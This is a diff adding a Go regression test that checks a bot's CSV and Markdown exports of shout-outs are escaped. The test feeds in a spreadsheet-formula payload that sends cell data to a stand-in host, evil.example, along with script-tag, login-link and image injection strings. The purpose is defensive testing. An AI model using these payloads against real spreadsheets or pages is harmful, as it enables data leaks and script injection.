@@ -9,8 +9,10 @@ package main
 // here, one test each, named TestAttack....
 
 import (
+	"bytes"
 	"context"
 	"database/sql"
+	"encoding/csv"
 	"fmt"
 	"html"
 	"io"
@@ -26,6 +28,9 @@ import (
 	"testing"
 	"time"
 
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/extension"
+	gmhtml "github.com/yuin/goldmark/renderer/html"
 	"maunium.net/go/mautrix"
 	"maunium.net/go/mautrix/event"
 	"maunium.net/go/mautrix/id"
@@ -509,5 +514,49 @@ func TestAttackMatrixMemberLinks(t *testing.T) {
 	b.stop(t)
 	if n := checkMatrixLinks(t, botID, member, olive); n < 3 {
 		t.Errorf("only %d HTML messages from the bot were checked", n)
+	}
+}
+
+// TestAttackExports (15.6): a console member named =HYPERLINK(...) gave a
+// shout-out; the CSV export left the ID columns raw, so a spreadsheet ran
+// the formula, and the Markdown export passed <script> and labelled links
+// through. Every column and field is escaped.
+func TestAttackExports(t *testing.T) {
+	dir := t.TempDir()
+	db := filepath.Join(dir, "bothy.db")
+	const giver = `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`
+	reason := "the <script>alert(1)</script> storm posts [login](https://evil.example/login) ![t](https://evil.example/t.png)"
+	out, errOut, code := runBothy(t, dir, "shoutout @carol for "+reason+"\n", nil, "--db", db, "--as", giver)
+	if code != 0 || !strings.Contains(out, "carol") {
+		t.Fatalf("shout-out: exit %d\n%s\n%s", code, out, errOut)
+	}
+
+	csvOut, errOut, code := runBothy(t, dir, "", nil, "shoutouts", "export", "--db", db, "--format", "csv")
+	if code != 0 {
+		t.Fatalf("csv export: exit %d: %s", code, errOut)
+	}
+	rows, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("csv export: %v\n%s", err, csvOut)
+	}
+	for i, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("CSV column %s would run as a formula: %q", rows[0][i], cell)
+		}
+	}
+
+	mdOut, errOut, code := runBothy(t, dir, "", nil, "shoutouts", "export", "--db", db, "--format", "markdown")
+	if code != 0 {
+		t.Fatalf("markdown export: exit %d: %s", code, errOut)
+	}
+	var page bytes.Buffer
+	md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(gmhtml.WithUnsafe()))
+	if err := md.Convert([]byte(mdOut), &page); err != nil {
+		t.Fatal(err)
+	}
+	for _, bad := range []string{"<script", "<img", ">login</a>"} {
+		if strings.Contains(page.String(), bad) {
+			t.Errorf("the Markdown export, rendered, contains %q:\n%s", bad, page.String())
+		}
 	}
 }
